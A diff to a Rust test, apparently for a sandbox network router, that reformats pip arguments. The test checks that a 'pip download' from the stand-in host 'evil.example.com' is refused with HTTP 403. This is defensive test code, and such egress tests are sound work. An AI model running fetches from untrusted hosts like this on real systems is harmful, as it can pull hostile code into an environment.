@@ -130,7 +130,15 @@ fn pip_installs(router: &Router) {
     assert!(router.home().join("wheels").join(wheel).exists());
     assert!(pip("evil.example.com").stderr.contains("No matching distribution"));
     let mut by_url = router.client("python3");
-    by_url.args(["-m", "pip", "download", "--disable-pip-version-check", "--no-cache-dir", "--retries=0", "--no-deps"]);
+    by_url.args([
+        "-m",
+        "pip",
+        "download",
+        "--disable-pip-version-check",
+        "--no-cache-dir",
+        "--retries=0",
+        "--no-deps",
+    ]);
     let refused = Ran::of(by_url.arg(format!("http://evil.example.com/{wheel}")));
     assert!((refused.stdout + &refused.stderr).contains("HTTP error 403"), "pip says the status");
 }
